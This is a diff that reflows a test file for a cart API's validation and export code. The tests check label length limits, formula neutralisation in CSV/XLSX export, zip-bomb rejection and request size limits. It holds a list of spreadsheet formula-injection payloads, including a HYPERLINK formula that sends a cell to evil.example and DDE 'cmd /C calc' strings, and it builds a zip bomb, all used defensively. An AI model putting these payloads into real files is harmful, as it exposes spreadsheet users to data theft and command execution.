@@ -6,7 +6,14 @@
 import { strFromU8, strToU8, unzipSync, zipSync } from "fflate";
 import { beforeAll, describe, expect, it } from "vitest";
 import app from "../../workers/commerce/src/index";
-import { MAX_IMPORT_ROWS, MAX_XLSX_TOTAL_BYTES, parseCsv, parseXlsx, writeCsv, writeXlsx } from "../../workers/commerce/src/cart/files";
+import {
+  MAX_IMPORT_ROWS,
+  MAX_XLSX_TOTAL_BYTES,
+  parseCsv,
+  parseXlsx,
+  writeCsv,
+  writeXlsx,
+} from "../../workers/commerce/src/cart/files";
 import { CART_LABEL_MAX_LENGTH } from "../../workers/commerce/src/cart/line-input";
 import { BATCH_BODY_LIMIT, JSON_BODY_LIMIT } from "../../workers/commerce/src/http/body-limit";
 import { call, createUser, env, seedTestCatalogue, signIn } from "../workers/commerce/helpers";
@@ -33,15 +40,22 @@ async function freshBuyer() {
   return { token: tokens.AccessToken, cartId: cart.json.cartId as string };
 }
 
-const add = (token: string, cartId: string, items: unknown[]) => call(`/v2/cart/${cartId}/variants/batch/add`, { token, body: { items } });
+const add = (token: string, cartId: string, items: unknown[]) =>
+  call(`/v2/cart/${cartId}/variants/batch/add`, { token, body: { items } });
 const cartLines = async (token: string, cartId: string) =>
-  ((await call(`/v2/cart/${cartId}`, { token })).json.items as any[]).map((i) => [i.articleNumber, i.quantity, i.deliveryId, i.label]).sort();
+  ((await call(`/v2/cart/${cartId}`, { token })).json.items as any[])
+    .map((i) => [i.articleNumber, i.quantity, i.deliveryId, i.label])
+    .sort();
 
 async function upload(token: string, cartId: string, file: Uint8Array | string, name = "order.csv") {
   const form = new FormData();
   form.set("deliveryId", "DBI");
   form.set("file", new File([file as BlobPart], name));
-  const response = await app.request(`/v2/cart/${cartId}/upload`, { method: "POST", headers: { authorization: `Bearer ${token}` }, body: form }, env);
+  const response = await app.request(
+    `/v2/cart/${cartId}/upload`,
+    { method: "POST", headers: { authorization: `Bearer ${token}` }, body: form },
+    env,
+  );
   return { status: response.status, json: (await response.json()) as any };
 }
 
@@ -61,24 +75,44 @@ describe("label length on every path", () => {
     ]);
     expect(tooLong.status).toBe(400);
     expect(tooLong.json.issues).toEqual([expect.objectContaining({ path: "items.1.label" })]);
-    const huge = await add(token, cartId, [{ articleNumber: plain[1], quantity: 1, deliveryId: "DBI", label: long(200_000) }]);
+    const huge = await add(token, cartId, [
+      { articleNumber: plain[1], quantity: 1, deliveryId: "DBI", label: long(200_000) },
+    ]);
     expect(huge.status).toBeGreaterThanOrEqual(400);
     expect(huge.status).toBeLessThan(500);
-    const control = await add(token, cartId, [{ articleNumber: plain[1], quantity: 1, deliveryId: "DBI", label: "rad 1\nrad 2" }]);
+    const control = await add(token, cartId, [
+      { articleNumber: plain[1], quantity: 1, deliveryId: "DBI", label: "rad 1\nrad 2" },
+    ]);
     expect(control.status).toBe(400);
     expect(await cartLines(token, cartId)).toEqual([]);
     // Exactly the limit is fine.
-    expect((await add(token, cartId, [{ articleNumber: plain[0], quantity: 1, deliveryId: "DBI", label: long(CART_LABEL_MAX_LENGTH) }])).status).toBe(200);
+    expect(
+      (
+        await add(token, cartId, [
+          { articleNumber: plain[0], quantity: 1, deliveryId: "DBI", label: long(CART_LABEL_MAX_LENGTH) },
+        ])
+      ).status,
+    ).toBe(200);
   });
 
   it("refuses a long label in a single and a batch update and keeps the line as it was", async () => {
     const { token, cartId } = await freshBuyer();
-    const added = await add(token, cartId, [{ articleNumber: plain[2], quantity: 2, deliveryId: "DBI", label: "Hus A" }]);
+    const added = await add(token, cartId, [
+      { articleNumber: plain[2], quantity: 2, deliveryId: "DBI", label: "Hus A" },
+    ]);
     const itemId = added.json.cartItems[0].cartItemId;
-    const single = await call(`/v2/cart/${cartId}/variants/${itemId}`, { method: "PUT", token, body: { label: long(CART_LABEL_MAX_LENGTH + 1), quantity: 5 } });
+    const single = await call(`/v2/cart/${cartId}/variants/${itemId}`, {
+      method: "PUT",
+      token,
+      body: { label: long(CART_LABEL_MAX_LENGTH + 1), quantity: 5 },
+    });
     expect(single.status).toBe(400);
     expect(single.json.issues[0].path).toBe("label");
-    const batch = await call(`/v2/cart/${cartId}/variants/batch/update`, { method: "PUT", token, body: { items: [{ cartItemId: itemId, label: long(5_000) }] } });
+    const batch = await call(`/v2/cart/${cartId}/variants/batch/update`, {
+      method: "PUT",
+      token,
+      body: { items: [{ cartItemId: itemId, label: long(5_000) }] },
+    });
     expect(batch.status).toBe(400);
     expect(await cartLines(token, cartId)).toEqual([[plain[2], 2, "DBI", "Hus A"]]);
   });
@@ -102,23 +136,49 @@ describe("label length on every path", () => {
 
   it("refuses an XLSX upload with a long label, nothing saved", async () => {
     const { token, cartId } = await freshBuyer();
-    const result = await upload(token, cartId, xlsxOf([[plain[6], "1", "Plan 2"], [plain[7], "1", long(200_000)]]), "order.xlsx");
+    const result = await upload(
+      token,
+      cartId,
+      xlsxOf([
+        [plain[6], "1", "Plan 2"],
+        [plain[7], "1", long(200_000)],
+      ]),
+      "order.xlsx",
+    );
     expect(result.status).toBe(400);
     expect(result.json.issues[0]).toMatchObject({ row: 3, field: "label" });
     expect(await cartLines(token, cartId)).toEqual([]);
     // The same file with a proper label is imported.
-    const ok = await upload(token, cartId, xlsxOf([[plain[6], "1", "Plan 2"], [plain[7], "3", long(CART_LABEL_MAX_LENGTH)]]), "order.xlsx");
+    const ok = await upload(
+      token,
+      cartId,
+      xlsxOf([
+        [plain[6], "1", "Plan 2"],
+        [plain[7], "3", long(CART_LABEL_MAX_LENGTH)],
+      ]),
+      "order.xlsx",
+    );
     expect(ok.status).toBe(200);
     expect(await cartLines(token, cartId)).toHaveLength(2);
   });
 });
 
-const DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klicka")', "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\uFF1D1+1"];
+const DANGEROUS = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")',
+  "+SUM(1+1)*cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)",
+  "\uFF1D1+1",
+];
 
 describe("CSV and XLSX export neutralise formulas", () => {
   it("prefixes formula-leading labels in the cart's CSV and XLSX export, keeps numbers numeric, and imports them back", async () => {
     const { token, cartId } = await freshBuyer();
-    const added = await add(token, cartId, DANGEROUS.map((label, i) => ({ articleNumber: plain[10 + i], quantity: 3, deliveryId: "DBI", label })));
+    const added = await add(
+      token,
+      cartId,
+      DANGEROUS.map((label, i) => ({ articleNumber: plain[10 + i], quantity: 3, deliveryId: "DBI", label })),
+    );
     expect(added.status, added.text).toBe(200);
     expect(added.json.errors).toEqual([]);
 
@@ -132,10 +192,24 @@ describe("CSV and XLSX export neutralise formulas", () => {
     }
     expect(rows.map((r) => r[5]).sort()).toEqual(DANGEROUS.map((l) => `'${l}`).sort());
 
-    const response = await app.request(`/v2/cart/${cartId}/export`, { method: "POST", headers: { authorization: `Bearer ${token}`, "content-type": "application/json" }, body: JSON.stringify({ format: "xlsx" }) }, env);
+    const response = await app.request(
+      `/v2/cart/${cartId}/export`,
+      {
+        method: "POST",
+        headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
+        body: JSON.stringify({ format: "xlsx" }),
+      },
+      env,
+    );
     const bytes = new Uint8Array(await response.arrayBuffer());
     const sheet = strFromU8(unzipSync(bytes)["xl/worksheets/sheet1.xml"]);
-    const texts = [...sheet.matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((m) => m[1].replace(/&quot;/g, '"').replace(/&amp;/g, "&").replace(/&lt;/g, "<").replace(/&gt;/g, ">"));
+    const texts = [...sheet.matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((m) =>
+      m[1]
+        .replace(/&quot;/g, '"')
+        .replace(/&amp;/g, "&")
+        .replace(/&lt;/g, "<")
+        .replace(/&gt;/g, ">"),
+    );
     for (const text of texts) expect(text, text).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
     expect(texts).toEqual(expect.arrayContaining(DANGEROUS.map((l) => `'${l}`)));
     // The quantity column stays a number cell (no t="inlineStr"), so Excel can sum it.
@@ -150,11 +224,20 @@ describe("CSV and XLSX export neutralise formulas", () => {
   });
 
   it("neutralises text in the shared writer used by the order download, leaving plain numbers alone", () => {
-    const csv = writeCsv([["Ordernummer", "Rad", "Märkning", "Belopp"], ["O-1", "1", "=1+1", "-12,50"], ["O-1", "2", "@x", 7]]);
+    const csv = writeCsv([
+      ["Ordernummer", "Rad", "Märkning", "Belopp"],
+      ["O-1", "1", "=1+1", "-12,50"],
+      ["O-1", "2", "@x", 7],
+    ]);
     const rows = parseCsv(csv);
     expect(rows[1]).toEqual(["O-1", "1", "'=1+1", "-12,50"]);
     expect(rows[2]).toEqual(["O-1", "2", "'@x", "7"]);
-    const xlsx = parseXlsx(writeXlsx([["a", "b"], ["\tcmd", -5]]));
+    const xlsx = parseXlsx(
+      writeXlsx([
+        ["a", "b"],
+        ["\tcmd", -5],
+      ]),
+    );
     expect(xlsx[1]).toEqual(["'\tcmd", "-5"]);
   });
 });
@@ -168,7 +251,10 @@ describe("XLSX bomb and row limits", () => {
 
   it("answers 413 for an XLSX whose declared size is over the limit, before inflating, and saves nothing", async () => {
     const { token, cartId } = await freshBuyer();
-    const bomb = zipSync({ "xl/worksheets/sheet1.xml": strToU8(bombSheet(MAX_XLSX_TOTAL_BYTES + 1024 * 1024)) }, { level: 9 });
+    const bomb = zipSync(
+      { "xl/worksheets/sheet1.xml": strToU8(bombSheet(MAX_XLSX_TOTAL_BYTES + 1024 * 1024)) },
+      { level: 9 },
+    );
     expect(bomb.length).toBeLessThan(200 * 1024);
     const started = Date.now();
     const result = await upload(token, cartId, bomb, "bomb.xlsx");
@@ -198,7 +284,12 @@ describe("XLSX bomb and row limits", () => {
     const csv = Array.from({ length: MAX_IMPORT_ROWS + 1 }, () => `${plain[0]};1`).join("\n");
     const fromCsv = await upload(token, cartId, csv);
     expect(fromCsv.status).toBe(413);
-    const fromXlsx = await upload(token, cartId, xlsxOf(Array.from({ length: MAX_IMPORT_ROWS + 1 }, () => [plain[0], "1", ""])), "rows.xlsx");
+    const fromXlsx = await upload(
+      token,
+      cartId,
+      xlsxOf(Array.from({ length: MAX_IMPORT_ROWS + 1 }, () => [plain[0], "1", ""])),
+      "rows.xlsx",
+    );
     expect(fromXlsx.status).toBe(413);
     expect(await cartLines(token, cartId)).toEqual([]);
   });
@@ -226,7 +317,11 @@ describe("request body limits", () => {
         else controller.close();
       },
     });
-    const response = await app.request("/search", { method: "POST", headers: { "content-type": "application/json" }, body: stream, duplex: "half" } as RequestInit, env);
+    const response = await app.request(
+      "/search",
+      { method: "POST", headers: { "content-type": "application/json" }, body: stream, duplex: "half" } as RequestInit,
+      env,
+    );
     expect(response.status).toBe(413);
     expect(sent).toBeLessThan(100);
     // An ordinary search still answers.
@@ -236,7 +331,13 @@ describe("request body limits", () => {
   it("answers 413 for an oversize cart add and GraphQL request, and the cart keeps its lines", async () => {
     const { token, cartId } = await freshBuyer();
     await add(token, cartId, [{ articleNumber: plain[20], quantity: 1, deliveryId: "DBI" }]);
-    const items = Array.from({ length: 200 }, (_, i) => ({ articleNumber: plain[i % plain.length], quantity: 1, deliveryId: "DBI", label: "y".repeat(60), padding: "z".repeat(BATCH_BODY_LIMIT / 200) }));
+    const items = Array.from({ length: 200 }, (_, i) => ({
+      articleNumber: plain[i % plain.length],
+      quantity: 1,
+      deliveryId: "DBI",
+      label: "y".repeat(60),
+      padding: "z".repeat(BATCH_BODY_LIMIT / 200),
+    }));
     const tooBig = await add(token, cartId, items);
     expect(tooBig.status).toBe(413);
     expect(await cartLines(token, cartId)).toEqual([[plain[20], 1, "DBI", ""]]);
